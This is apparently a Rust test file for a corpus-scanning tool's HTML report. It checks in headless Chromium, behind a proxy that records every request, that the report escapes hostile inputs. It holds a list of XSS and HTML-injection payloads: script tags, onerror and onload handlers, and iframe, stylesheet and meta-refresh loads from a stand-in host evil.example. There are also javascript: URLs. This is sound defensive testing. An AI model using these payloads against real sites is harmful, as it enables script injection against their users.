//! The report in a browser: hostile pages cannot make it fetch or run anything, and the figures are
//! drawn.
//!
//! Chromium runs behind a proxy that records every request and answers none. A page with unescaped
//! attacks first shows that the test would notice an attack.

#![expect(
    clippy::unwrap_used,
    reason = "a test that cannot set up its browser fails"
)]

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use support::{Random, Sandbox, skip};

/// Attacks in titles, URLs and texts. Each would change the title of the page or fetch something.
const ATTACKS: [&str; 8] = [
    "<script>document.title='run'</script>",
    "\"><script>document.title='run'</script>",
    "'><img src=http://evil.example/a.png onerror=\"document.title='run'\">",
    "<svg onload=\"document.title='run'\">",
    "</style></title></textarea><script src=http://evil.example/a.js></script>",
    "<iframe src=http://evil.example/frame></iframe>",
    "<link rel=stylesheet href=http://evil.example/a.css><style>@import 'http://evil.example/b.css';</style>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/away\"><base href=http://evil.example/>",
];

struct Browser {
    port: u16,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Browser {
    /// Returns `None`, after [`skip`], if Chromium is not installed.
    fn find() -> Option<Browser> {
        let version = Command::new("chromium").arg("--version").output();
        if version.is_err() {
            skip("chromium is not installed; ./check installs it");
            return None;
        }
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let requests: Arc<Mutex<Vec<String>>> = Arc::default();
        let recorded = Arc::clone(&requests);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut head = [0; 512];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let length = stream.read(&mut head).unwrap_or(0);
                let line = String::from_utf8_lossy(&head[..length]);
                let line = line.lines().next().unwrap_or_default().to_owned();
                recorded.lock().unwrap().push(line);
                let _ = stream.write_all(b"HTTP/1.1 502 No\r\nContent-Length: 0\r\n\r\n");
            }
        });
        Some(Browser { port, requests })
    }

    fn run(&self, profile: &Path, file: &Path, extra: &[&str]) -> Vec<u8> {
        let output = Command::new("chromium")
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--disable-extensions",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--hide-scrollbars",
                "--force-color-profile=srgb",
                "--virtual-time-budget=3000",
            ])
            .arg(format!("--user-data-dir={}", profile.display()))
            .arg(format!("--proxy-server=http://127.0.0.1:{}", self.port))
            .args(extra)
            .arg(format!("file://{}", file.display()))
            .stdin(Stdio::null())
            .stderr(Stdio::null())
            .output()
            .unwrap();
        assert!(output.status.success());
        output.stdout
    }

    /// Returns the page after all of its scripts have run.
    fn page(&self, sandbox: &Sandbox, file: &str) -> String {
        let page = self.run(
            &sandbox.path("profile"),
            &sandbox.path(file),
            &["--dump-dom"],
        );
        String::from_utf8(page).unwrap()
    }

    /// Returns the requests of pages since the last call, without those of the browser itself.
    fn take_requests(&self) -> Vec<String> {
        let mut requests = self.requests.lock().unwrap();
        let taken = std::mem::take(&mut *requests);
        taken
            .into_iter()
            .filter(|line| line.contains(".example"))
            .collect()
    }
}

/// Writes inputs whose URLs, titles and words are attacks, with duplicates, quilts and phrases made
/// of them.
fn hostile(sandbox: &Sandbox) {
    let mut random = Random(17);
    let mut lines = String::new();
    let mut push = |url: &str, title: &str, text: &str| {
        let text = serde_json::json!({ "url": url, "title": title, "text": text });
        lines.push_str(&format!("{text}\n"));
    };
    let mut passages = Vec::new();
    for source in 0..72 {
        let attack = ATTACKS[source % ATTACKS.len()];
        let passage = format!("{attack} {} {attack}", random.paragraph(40));
        let text = format!("{}\n\n{passage}\n\n{attack}", random.paragraph(60));
        // A URL that is itself an attack, on the page that is kept of two duplicates.
        push(
            &format!("javascript:document.title='run'//{source}{attack}"),
            attack,
            &text,
        );
        push(
            &format!("http://site{source}.example/{attack}"),
            attack,
            &text,
        );
        passages.push(passage);
    }
    for quilt in 0..12 {
        let attack = ATTACKS[quilt % ATTACKS.len()];
        let stitched = passages[6 * quilt..6 * quilt + 6].join("\n\n");
        push(
            &format!("http://quilt{quilt}.example/?q={attack}"),
            attack,
            &stitched,
        );
    }
    sandbox.write("hostile.jsonl", lines);
    sandbox.write(
        &format!("pages/{}.txt", "<img src=x onerror=document.title='run'>"),
        "one two three",
    );
}

#[test]
fn a_hostile_corpus_fetches_nothing_and_runs_nothing() {
    let Some(browser) = Browser::find() else {
        return;
    };
    let sandbox = Sandbox::new();
    // Unescaped, every attack is noticed.
    for (number, attack) in ATTACKS.iter().enumerate() {
        sandbox.write(
            "raw.html",
            format!("<!doctype html><title>safe</title><body>{attack}"),
        );
        let page = browser.page(&sandbox, "raw.html");
        let seen = page.contains("<title>run</title>") || !browser.take_requests().is_empty();
        assert!(
            seen,
            "attack {number} has no effect even if it is not escaped"
        );
    }
    hostile(&sandbox);
    let summary = sandbox.succeed(&["scan", "hostile.jsonl", "pages", "-o", "hostile.cento"]);
    assert!(summary.contains("quilt"), "{summary}");
    let file = "hostile.cento/report.html";
    let written = std::fs::read_to_string(sandbox.path(file)).unwrap();
    // The attacks appear as text.
    for attack in [
        "&lt;script&gt;",
        "&lt;svg onload=",
        "evil.example",
        "javascript:",
    ] {
        assert!(written.contains(attack), "{attack}");
    }
    browser.take_requests();
    let page = browser.page(&sandbox, file);
    assert_eq!(browser.take_requests(), Vec::<String>::new());
    assert!(page.contains("<title>hostile.cento – cento</title>"));
    for element in [
        "<script", "<iframe", "<img", "<link", "<base", "<object", "<form",
    ] {
        assert!(!page.contains(element), "{element}");
    }
    // The browser parsed the page as it was written.
    assert_eq!(
        page.matches("<tr>").count(),
        written.matches("<tr>").count()
    );
    assert_eq!(
        page.matches("<mark").count(),
        written.matches("<mark").count()
    );
    assert!(!page.to_ascii_lowercase().contains("href=\"javascript"));
}

/// Issue 23.
#[test]
fn a_report_does_not_scroll_sideways_on_a_narrow_screen() {
    let Some(browser) = Browser::find() else {
        return;
    };
    let sandbox = Sandbox::new();
    hostile(&sandbox);
    sandbox.succeed(&["scan", "hostile.jsonl", "-o", "hostile.cento"]);
    let report = std::fs::read_to_string(sandbox.path("hostile.cento/report.html")).unwrap();
    // Chromium has a least width for its windows: the report is in a frame of 400 pixels, which
    // allows scripts for the measurement.
    let report = report.replace("default-src 'none'; ", "");
    sandbox.write("report.html", report);
    sandbox.write(
        "frame.html",
        "<!doctype html><title>unmeasured</title><iframe src=\"report.html\" width=\"400\" \
         height=\"900\" onload=\"const root = this.contentDocument.documentElement; \
         document.title = root.scrollWidth + ' of ' + this.contentWindow.innerWidth\"></iframe>",
    );
    let page = browser.run(
        &sandbox.path("profile"),
        &sandbox.path("frame.html"),
        &["--dump-dom", "--allow-file-access-from-files"],
    );
    let page = String::from_utf8(page).unwrap();
    let (_, title) = page.split_once("<title>").unwrap();
    let (title, _) = title.split_once("</title>").unwrap();
    let (scrolled, inner) = title.split_once(" of ").unwrap();
    let (scrolled, inner): (u32, u32) = (scrolled.parse().unwrap(), inner.parse().unwrap());
    assert_eq!(inner, 400);
    assert!(scrolled <= inner, "{scrolled} of {inner} pixels");
}

#[test]
fn the_figures_are_drawn_in_light_and_in_dark() {
    let Some(browser) = Browser::find() else {
        return;
    };
    let sandbox = Sandbox::new();
    hostile(&sandbox);
    sandbox.succeed(&["scan", "hostile.jsonl", "-o", "hostile.cento"]);
    let file = sandbox.path("hostile.cento/report.html");
    let shot = sandbox.path("shot.png");
    // The first colour of figures and the background, as in the style sheet.
    for (extra, ink, paper) in [
        (&[][..], [0x00, 0x72, 0xb2], [0xff, 0xff, 0xff]),
        (
            &["--blink-settings=preferredColorScheme=0"][..],
            [0x58, 0xa6, 0xe8],
            [0x0d, 0x11, 0x17],
        ),
    ] {
        let screenshot = format!("--screenshot={}", shot.display());
        let mut arguments = vec![screenshot.as_str(), "--window-size=1340,6000"];
        arguments.extend(extra);
        browser.run(&sandbox.path("profile"), &file, &arguments);
        let pixels = pixels(&std::fs::read(&shot).unwrap());
        let count = |colour: [u8; 3]| pixels.iter().filter(|&&pixel| pixel == colour).count();
        assert!(count(paper) > pixels.len() / 2, "{} of paper", count(paper));
        // The bars of five figures: a single bar has several thousand pixels.
        assert!(count(ink) > 20_000, "{} of ink", count(ink));
    }
}

/// Decodes a PNG as browsers write it: eight bits per channel, three or four channels.
fn pixels(png: &[u8]) -> Vec<[u8; 3]> {
    let number = |at: usize| u32::from_be_bytes(png[at..at + 4].try_into().unwrap()) as usize;
    let (width, channels) = (number(16), if png[25] == 6 { 4 } else { 3 });
    let (mut packed, mut at) = (Vec::new(), 8);
    while at < png.len() {
        let length = number(at);
        if &png[at + 4..at + 8] == b"IDAT" {
            packed.extend_from_slice(&png[at + 8..at + 8 + length]);
        }
        at += 12 + length;
    }
    let mut raw = Vec::new();
    flate2::read::ZlibDecoder::new(packed.as_slice())
        .read_to_end(&mut raw)
        .unwrap();
    let stride = width * channels;
    let mut above = vec![0u8; stride];
    let mut found = Vec::new();
    for line in raw.chunks_exact(stride + 1) {
        let mut row = line[1..].to_vec();
        for index in 0..stride {
            let left = if index >= channels {
                row[index - channels]
            } else {
                0
            };
            let (up, corner) = (
                above[index],
                if index >= channels {
                    above[index - channels]
                } else {
                    0
                },
            );
            let predicted = match line[0] {
                0 => 0,
                1 => left,
                2 => up,
                3 => ((u16::from(left) + u16::from(up)) / 2) as u8,
                _ => {
                    let (a, b, c) = (i32::from(left), i32::from(up), i32::from(corner));
                    let guess = a + b - c;
                    let [to_a, to_b, to_c] = [a, b, c].map(|value| (guess - value).abs());
                    match (to_a <= to_b && to_a <= to_c, to_b <= to_c) {
                        (true, _) => left,
                        (_, true) => up,
                        _ => corner,
                    }
                }
            };
            row[index] = row[index].wrapping_add(predicted);
        }
        found.extend(
            row.chunks_exact(channels)
                .map(|pixel| [pixel[0], pixel[1], pixel[2]]),
        );
        above = row;
    }
    found
}
